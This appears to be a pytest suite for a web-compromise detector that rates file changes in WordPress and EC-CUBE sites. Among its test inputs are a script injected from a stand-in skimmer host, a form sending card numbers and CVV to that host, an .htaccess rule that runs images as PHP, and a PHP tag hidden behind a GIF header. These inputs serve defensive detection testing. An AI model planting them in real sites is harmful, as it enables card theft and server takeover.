"""What a change means: the profile says where, the content says what. Only what matters is loud."""
import json

import pytest
import samples
from guard import CRITICAL, HIGH, LOW, MEDIUM


@pytest.fixture
def application(scratch):
    """A WordPress in small: its own layout, with one host that its pages already use."""
    root = scratch / "app"
    files = {
        "index.php": b"<?php require 'wp-load.php';\n",
        "wp-load.php": b"<?php $x = 1;\n",
        "wp-includes/functions.php": b"<?php\nfunction total($rows) {\n        return array_sum($rows);\n}\n",
        "wp-content/plugins/pay/pay.php": b"<?php\nfunction pay() {\n        return true;\n}\n",
        "wp-content/themes/hinoki/header.php": b'<html><script src="https://static.shop.example/a.js"></script>\n',
        "wp-content/themes/hinoki/footer.php": b"<?php wp_footer(); ?>\n</html>\n",
        "wp-content/themes/hinoki/style.css": b"body { color: black; }\n",
        "wp-content/themes/hinoki/cart.js": b"document.title = 'cart';\n",
        "wp-content/uploads/2026/11/tea.png": samples.PNG,
        "wp-content/uploads/orders.csv": b"id,sum\n1,100\n",
    }
    for name, content in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(content)
    return root


@pytest.fixture
def watched(make_guard, application):
    return make_guard([{"path": application, "profile": "wordpress"}])


UPLOADS, THEME = "wp-content/uploads/2026/11", "wp-content/themes/hinoki"

CRITICAL_ARRIVALS = {
    "new PHP in data": (f"{UPLOADS}/cache.php", samples.PHP),
    "new PHP in data under another extension": (f"{UPLOADS}/cache.phtml", samples.PHP),
    "PHP in a text file in data": (f"{UPLOADS}/cache.txt", samples.PHP),
    "a PHP tag in a PNG": (f"{UPLOADS}/logo.png", samples.PHP_IN_PNG),
    "a PHP tag in a JPEG": (f"{UPLOADS}/logo.jpg", samples.PHP_IN_JPEG),
    "a PHP tag behind a GIF's magic": (f"{UPLOADS}/logo.gif", b"GIF89a<?php echo 'marker'; ?>"),
    "a name that says image over bytes that do not": (f"{UPLOADS}/pixel.gif", samples.encrypted_records(4)),
    "a text that calls itself JPEG": (f"{UPLOADS}/pixel.jpg", b"id,sum\n1,100\n" * 20),
    "a web shell in data": (f"{UPLOADS}/x.php", samples.WEB_SHELL),
    "a web shell among plugins": ("wp-content/plugins/pay/x.php", samples.WEB_SHELL),
    "a server setting that runs images": (f"{UPLOADS}/.htaccess", b"AddHandler application/x-httpd-php .jpg\n"),
}


@pytest.mark.parametrize("what", CRITICAL_ARRIVALS)
def test_critical_when_it_arrives(watched, application, what):
    name, content = CRITICAL_ARRIVALS[what]
    (application / name).write_bytes(content)
    finding, _ = watched.seen(application / name, "created", CRITICAL)
    assert finding["severity"] == "Critical"
    assert finding["finding_info"]["types"]
    assert finding["attacks"] and all(a["technique"]["uid"].startswith("T1") for a in finding["attacks"])


CRITICAL_ADDITIONS = {
    "a script from a host never seen": (f"{THEME}/header.php", samples.SCRIPT),
    "a script from a host never seen, in JavaScript": (
        f"{THEME}/cart.js",
        b"var s = document.createElement('script'); s.src = 'https://cdn.skimmer.example/x.js';\n"
        b"document.head.appendChild(s);\n",
    ),
    "a skimmer's script": (f"{THEME}/cart.js", samples.SKIMMER_JS),
    "obfuscated PHP": (f"{THEME}/footer.php", samples.OBFUSCATED),
    "obfuscated JavaScript": (f"{THEME}/cart.js", samples.OBFUSCATED_JS),
    "a form that posts card data elsewhere": (
        f"{THEME}/header.php",
        b'<form action="https://pay.skimmer.example/x" method="post"><input name="card_number"><input name="cvv"></form>\n',
    ),
    "code that keeps what customers type": ("wp-content/plugins/pay/pay.php", samples.STEALER_PHP.replace(b"<?php", b"")),
}


@pytest.mark.parametrize("what", CRITICAL_ADDITIONS)
def test_critical_when_it_is_added(watched, application, what):
    name, content = CRITICAL_ADDITIONS[what]
    with open(application / name, "ab") as file:
        file.write(content)
    _, evidence = watched.seen(application / name, "modified", CRITICAL)
    assert evidence["data"]["diff"]
    assert evidence["data"]["reasons"]


def test_script_from_a_host_the_application_already_uses_is_not_critical(watched, application):
    path = application / THEME / "footer.php"
    path.write_bytes(path.read_bytes() + b'<script src="https://static.shop.example/b.js"></script>\n')
    finding, _ = watched.seen(path, "modified")
    assert finding["severity_id"] <= LOW


def test_link_that_an_admin_adds_to_a_list_is_low(watched, application):
    path = application / THEME / "footer.php"
    path.write_bytes(b"<?php $links = ['About' => 'https://about.partner.example/']; wp_footer(); ?>\n</html>\n")
    finding, _ = watched.seen(path, "modified")
    assert finding["severity_id"] <= LOW
    path.write_bytes(path.read_bytes() + b"<?php echo '<script src=\"' . $links['About'] . '\"></script>'; ?>\n")
    watched.seen(path, "modified", CRITICAL)


def test_card_numbers_appended_to_a_data_file(watched, application):
    path = application / "wp-content/uploads/orders.csv"
    with open(path, "ab") as file:
        file.write(samples.card_lines())
    finding, _ = watched.seen(path, "modified", HIGH)
    assert "cards_stored" in finding["finding_info"]["types"]


def test_card_numbers_are_not_repeated_by_the_guard(watched, application):
    """Neither output nor record nor log may hold what was stolen."""
    path = application / "wp-content/uploads/orders.csv"
    with open(path, "ab") as file:
        file.write(samples.card_lines())
    finding, _ = watched.seen(path, "modified", HIGH)
    spoken = json.dumps(finding) + watched.done("show", finding["finding_info"]["uid"]) + watched.output()
    for part in (watched.state / "ledger").rglob("*"):
        spoken += part.read_bytes().decode("latin-1") if part.is_file() else ""
    for card in samples.CARDS:
        assert card not in spoken


def test_equal_encrypted_records_growing_in_a_data_file(watched, application):
    path = application / "wp-content/uploads/session.dat"
    path.write_bytes(b"")
    for seed in range(4):
        with open(path, "ab") as file:
            file.write(samples.encrypted_records(1, seed=seed))
        watched.settle()
    watched.seen(path, severity=MEDIUM, accept=lambda f, _: "encrypted_records" in f["finding_info"]["types"])


def test_code_changed_outside_a_release_is_grave(watched, application):
    path = application / "wp-includes/functions.php"
    path.write_bytes(path.read_bytes() + b"// hello\n")
    watched.seen(path, "modified", HIGH)


def test_ordinary_template_edit_is_low(watched, application):
    path = application / THEME / "footer.php"
    path.write_bytes(b"<p>Spring sale</p>\n" + path.read_bytes())
    finding, evidence = watched.seen(path, "modified")
    assert finding["severity"] == "Low"
    assert evidence["data"]["zone"] == "editable"


def test_ordinary_data_is_quiet(watched, application):
    (application / UPLOADS / "tea-2.png").write_bytes(samples.PNG)
    (application / UPLOADS / "tea.jpg").write_bytes(samples.JPEG)
    (application / UPLOADS / "price.csv").write_bytes(b"id,sum\n" + b"12,3400\n" * 100)
    (application / UPLOADS / "tea.png").unlink()
    with open(application / "wp-content/uploads/orders.csv", "ab") as file:
        file.write(b"2,200\n")
    watched.assert_quiet(application)


def test_numbers_that_are_no_cards_are_quiet(watched, application):
    path = application / "wp-content/uploads/orders.csv"
    with open(path, "ab") as file:
        file.write(b"".join(b"4111111111111%03d,2026-11-23\n" % i for i in range(112, 118)))
    watched.assert_quiet(application)


def test_session_and_cache_churn_is_quiet(watched, application):
    cache = application / "wp-content/cache"
    cache.mkdir()
    for i in range(100):
        (cache / f"page-{i}.html").write_bytes(b"<html></html>\n")
        (cache / f"object-{i}.php").write_bytes(b"<?php return ['a' => 1];\n")
    watched.assert_quiet(application, above=LOW)


def test_rules_of_the_packs_name_themselves(watched, application):
    """At least one row of packs/yara speaks, with its own name, on a well-known pattern."""
    path = application / "wp-content/plugins/pay/x.php"
    path.write_bytes(samples.WEB_SHELL)
    _, evidence = watched.seen(path, "created", CRITICAL)
    assert evidence["data"]["reasons"]


def test_eccube_admin_pages_stay_low_and_its_code_does_not(make_guard, scratch):
    root = scratch / "eccube"
    for name, content in {
        "index.php": b"<?php\n",
        "src/Eccube/Controller/ShoppingController.php": b"<?php class ShoppingController {}\n",
        "app/template/default/Shopping/confirm.twig": b"<h1>{{ title }}</h1>\n",
        "html/user_data/assets/js/customize.js": b"// customize\n",
        "html/upload/save_image/a.png": samples.PNG,
        "var/cache/prod/x.php": b"<?php return 1;\n",
        ".env": b"APP_ENV=prod\n",
    }.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(content)
    guard = make_guard([{"path": root, "profile": "eccube4"}])
    (root / "app/template/default/Shopping/confirm.twig").write_bytes(b"<h1>{{ title }}</h1><p>{{ note }}</p>\n")
    (root / "html/user_data/assets/js/customize.js").write_bytes(b"// customize\ndocument.title += '!';\n")
    (root / "html/upload/save_image/b.png").write_bytes(samples.PNG)
    (root / "app/proxy/entity").mkdir(parents=True)
    (root / "app/proxy/entity/Product.php").write_bytes(b"<?php class Product {}\n")
    (root / "var/cache/prod/y.php").write_bytes(b"<?php return 2;\n")
    guard.assert_quiet(root)
    (root / "html/upload/save_image/b.php").write_bytes(samples.PHP)
    guard.seen(root / "html/upload/save_image/b.php", "created", CRITICAL)
    controller = root / "src/Eccube/Controller/ShoppingController.php"
    controller.write_bytes(controller.read_bytes() + b"// x\n")
    guard.seen(controller, "modified", HIGH)
